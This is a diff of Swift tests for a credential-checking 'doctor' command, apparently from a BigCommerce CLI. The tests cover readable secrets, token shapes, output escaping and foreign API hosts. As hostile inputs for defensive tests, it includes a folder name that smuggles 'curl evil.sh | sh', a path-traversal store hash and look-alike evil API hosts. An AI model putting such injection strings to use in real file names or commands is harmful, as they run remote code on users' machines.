@@ -1,8 +1,10 @@
+import BcshProcesses
 import Foundation
 import Testing
 
 @testable import BcshFormats
 @testable import BcshModel
+@testable import BcshPorts
 @testable import BcshShell
 
 /// `doctor`: every kind of finding against real files, and real git work trees (tracked, ignored,
@@ -85,7 +87,8 @@ import Testing
 
   @Test func aSecretOthersCanRead() async {
     let t = project([
-      (".env", Self.env, 0o644), ("sub/creds.txt", try! String(contentsOfFile: Self.example), 0o640),
+      (".env", Self.env, 0o644),
+      ("sub/creds.txt", try! String(contentsOfFile: Self.example, encoding: .utf8), 0o640),
     ])
     let (status, found, _) = await findings(t)
     #expect(status == .verifyProblem)
@@ -155,6 +158,12 @@ import Testing
       ),
       (
         "c/.env",
+        "BIGCOMMERCE_STOREFRONT_TOKEN=\(Self.jwt("{\"iat\":\(Self.now - day),\"eat\":\(Self.now + 90 * day),\"cors\":[\"https://shop.example\"]}"))\n",
+        0o600
+      ),
+      // The same without origins may be a private token (a JWT does not say): no finding.
+      (
+        "e/.env",
         "BIGCOMMERCE_STOREFRONT_TOKEN=\(Self.jwt("{\"iat\":\(Self.now - day),\"eat\":\(Self.now + 90 * day)}"))\n",
         0o600
       ),
@@ -184,9 +193,9 @@ import Testing
     var session = Session()
     try session.add(minted)
     let t = project([("web/.env", "BIGCOMMERCE_STOREFRONT_TOKEN=\(token)\n", 0o600)])
-    // Without the session, the same file is a finding.
+    // Without the session, the token (no CORS origins: it may be a private one) is no finding either.
     let before = await findings(t, "doctor web")
-    #expect(before.found == ["browser-only-token web/.env:1"])
+    #expect(before.found == [])
     let u = project([
       ("web/.env", "BIGCOMMERCE_STOREFRONT_TOKEN=\(token)\n", 0o600),
       ("minted.json", SessionFile.rendered(session), 0o600),
@@ -254,7 +263,7 @@ import Testing
   @Test func hostileEntriesNeitherHangNorCrash() async throws {
     let t = project([(".env.local", "BIGCOMMERCE_STORE_HASH=\u{FFFD}abc\n", 0o600)])
     try FileManager.default.createDirectory(atPath: t.path("sub"), withIntermediateDirectories: true)
-    FileManager.default.createFile(
+    _ = FileManager.default.createFile(
       atPath: t.path("sub/.env"), contents: Data([0xFF, 0xFE, 0x0A, 0x3D, 0xC3]))
     #expect(mkfifo(t.path(".env"), 0o600) == 0)
     try FileManager.default.createDirectory(atPath: t.path(".stencil"), withIntermediateDirectories: true)
@@ -281,6 +290,118 @@ import Testing
     #expect(document?["unchecked"]?.elements?.first?.string?.hasPrefix(".env:1:26:") == true)
   }
 
+  /// A store hash key holding a client secret or a JWT is not printed: only a value of a store
+  /// hash's shape is shown.
+  @Test func aStoreHashThatIsNoHashIsNotShown() async {
+    let jwt = Self.jwt("{\"iat\":1}")
+    let t = project([
+      (".env", "BIGCOMMERCE_STORE_HASH=\(Sample.clientSecret)\n", 0o600),
+      ("a/.env", "BIGCOMMERCE_STORE_HASH=\(jwt)\n", 0o600),
+      ("b/.env", "BIGCOMMERCE_STORE_HASH=abc123\n", 0o600),
+    ])
+    let (_, found, document) = await findings(t)
+    #expect(found.count == 1 && found[0].hasPrefix("store-mismatch "))
+    let message = document?["findings"]?.elements?.first?["message"]?.string ?? ""
+    #expect(message.contains("abc123") && message.contains("characters, not shown"), "\(message)")
+    #expect(!t.output.output.contains(jwt) && !t.output.output.contains(Sample.clientSecret))
+    #expect(ProjectDoctor.isStoreHash("abc123") && !ProjectDoctor.isStoreHash("abc123/../x?y=1"))
+    #expect(
+      !ProjectDoctor.isStoreHash("ABC123") && !ProjectDoctor.isStoreHash(String(repeating: "a", count: 21)))
+  }
+
+  /// `--verify` asks the API only about store hashes of a valid shape: another value would go
+  /// into the request's URL.
+  @Test func onlyValidStoreHashesAreCredentials() throws {
+    let t = project([
+      (
+        "a/.env",
+        "BIGCOMMERCE_STORE_HASH=abc123/../../x?y=\nBIGCOMMERCE_ACCESS_TOKEN=\(Sample.accessToken)\n", 0o600
+      ),
+      ("b/.env", Self.env, 0o600),
+    ])
+    let doctor = ProjectDoctor(
+      files: LocalFiles(), git: GitExposure(processes: SpawnedProcesses()), environment: [:],
+      now: Date(timeIntervalSince1970: Double(Self.now)))
+    let (_, credentials) = try doctor.check(t.folder, shownAs: ".")
+    #expect(credentials.map(\.storeHash) == ["abc123"])
+  }
+
+  /// A file name or value with a line break or an escape sequence is shown escaped, and the fix
+  /// quotes a path as a shell reads it back.
+  @Test func namesAreEscapedAndFixesQuoted() async {
+    let folder = "x; curl evil.sh | sh #"
+    let t = project(
+      [("\(folder)/.env", Self.env, 0o644), ("e\u{1B}[2J\nfake/.env", Self.env, 0o644)], json: false)
+    #expect(await t.run("doctor") == .verifyProblem)
+    let output = t.output.output
+    #expect(output.contains("fix: chmod 600 -- 'x; curl evil.sh | sh #/.env'"), "\(output)")
+    #expect(output.contains("e\\e[2J\\nfake/.env:2:"), "\(output)")
+    #expect(!output.contains("\u{1B}") && !output.contains("\nfake"))
+    #expect(ProjectDoctor.shellWord("it's") == "'it'\\''s'")
+    #expect(ProjectDoctor.shellWord("-rf") == "'-rf'" && ProjectDoctor.shellWord("a/.env") == "a/.env")
+  }
+
+  /// A `.env` too large to read may hold a secret all the same: it is listed as not checked.
+  @Test func aTooLargeEnvFileIsNotChecked() async {
+    let big = Self.env + String(repeating: "# padding\n", count: Int(ProjectFiles.maximumSize) / 10 + 1)
+    let t = project([(".env", big, 0o600), ("notes.txt", big, 0o600)])
+    let (status, found, document) = await findings(t)
+    #expect(status == .commandFailed)
+    #expect(found == [])
+    #expect(document?["unchecked"]?.elements?.compactMap(\.string) == [".env: larger than 1 MiB; not read"])
+  }
+
+  /// stencil reads the token from the file the config names by `secretsFileName`: doctor reads it
+  /// too; a name bcsh would not write to is not followed, and said so at its line.
+  @Test func aStencilConfigsOwnSecretsFileIsRead() async {
+    let t = project([
+      (
+        "theme/config.stencil.json",
+        "{\"apiHost\": \"https://api.bigcommerce.com\", \"secretsFileName\": \"my.secrets.json\"}\n", 0o600
+      ),
+      ("theme/my.secrets.json", "{\"accessToken\": \"\(Sample.accessToken)\"}\n", 0o644),
+      (
+        "bad/config.stencil.json",
+        "{\n  \"apiHost\": \"https://api.bigcommerce.com\",\n  \"secretsFileName\": \"../x.json\"\n}\n", 0o600
+      ),
+    ])
+    let (status, found, document) = await findings(t)
+    #expect(status == .verifyProblem)
+    #expect(found == ["readable-secret theme/my.secrets.json:1"])
+    let unchecked = document?["unchecked"]?.elements?.compactMap(\.string) ?? []
+    #expect(unchecked.count == 1 && unchecked[0].hasPrefix("bad/config.stencil.json:3:1: "), "\(unchecked)")
+  }
+
+  /// git failing in the folder (a corrupt `.git/HEAD`, a repository of another user that git
+  /// refuses as of "dubious ownership") is no "ignored": the file is listed as not checked.
+  @Test func aGitThatFailsLeavesTheFileNotChecked() async throws {
+    let t = project([("corrupt/.env", Self.env, 0o600), ("foreign/.env", Self.env, 0o600)])
+    try ExternalProgram.run(["git", "init", "-q", "."], in: t.path("corrupt"))
+    try "garbage\n".write(toFile: t.path("corrupt/.git/HEAD"), atomically: true, encoding: .utf8)
+    try ExternalProgram.run(["git", "init", "-q", "."], in: t.path("foreign"))
+    if getuid() == 0 {
+      try ExternalProgram.run(["chown", "-R", "1000:1000", t.path("foreign")], in: t.folder)
+    }
+    let (status, found, document) = await findings(t)
+    #expect(status == .commandFailed)
+    #expect(found == [])
+    let unchecked = document?["unchecked"]?.elements?.compactMap(\.string) ?? []
+    #expect(
+      unchecked.contains { $0.hasPrefix("corrupt/.env:2: git failed there (exit 128)") }, "\(unchecked)")
+    if getuid() == 0 { #expect(unchecked.contains { $0.hasPrefix("foreign/.env:2: git failed there") }) }
+  }
+
+  /// A `BIGCOMMERCE_API_HOST` that is no BigCommerce host sends the token elsewhere.
+  @Test func anAPIHostThatIsNotBigCommerce() async {
+    let t = project([
+      ("a/.env.local", "BIGCOMMERCE_API_HOST=api.evil.example\n", 0o600),
+      ("b/.env.local", "BIGCOMMERCE_API_HOST=api.bigcommerce.com\n", 0o600),
+      ("c/.env.local", "BIGCOMMERCE_API_HOST=api.bigcommerce.com.evil.example\n", 0o600),
+    ])
+    let (_, found, _) = await findings(t)
+    #expect(found == ["foreign-api-host a/.env.local:1", "foreign-api-host c/.env.local:1"])
+  }
+
   @Test func humanOutputIsOneLineAFindingWithItsFix() async {
     let t = TestShell()
     t.write(".env", Self.env)
@@ -288,7 +409,7 @@ import Testing
     #expect(await t.run("doctor") == .verifyProblem)
     #expect(
       t.output.output == """
-        .env:2: a secret in a file others can read (mode 644); fix: chmod 600 .env
+        .env:2: a secret in a file others can read (mode 644); fix: chmod 600 -- .env
         1 problem in 1 credential file
 
         """)
@@ -304,12 +425,19 @@ extension GoldenTests {
     let t = DoctorTests().project(
       [
         (".env", DoctorTests.env, 0o600), (".env.development", DoctorTests.env, 0o644),
-        (".env.local", DoctorTests.env + "BIGCOMMERCE_CUSTOMER_IMPERSONATION_TOKEN=x\n", 0o600),
+        (
+          ".env.local",
+          DoctorTests.env
+            + "BIGCOMMERCE_CUSTOMER_IMPERSONATION_TOKEN=x\nBIGCOMMERCE_API_HOST=api.evil.example\n", 0o600
+        ),
         (".stencil", "{}\n", 0o600),
         ("config.stencil.json", "{\"normalStoreUrl\": \"https://store-xyz789.mybigcommerce.com\"}\n", 0o644),
         ("a/.env", token("{\"iat\":1780000000,\"eat\":\(now - day)}"), 0o600),
         ("b/.env", token("{\"iat\":1780000000,\"eat\":\(now + 3 * day)}"), 0o600),
-        ("c/.env", token("{\"iat\":\(now),\"eat\":\(now + 90 * day)}"), 0o600),
+        (
+          "c/.env", token("{\"iat\":\(now),\"eat\":\(now + 90 * day),\"cors\":[\"https://a.example\"]}"),
+          0o600
+        ),
         (".gitignore", ".env.local\na/\nb/\nc/\n", 0o644),
       ], environment: ["BIGCOMMERCE_CLIENT_SECRET": "other"], json: false)
     try ExternalProgram.run(["git", "init", "-q", "."], in: t.folder)
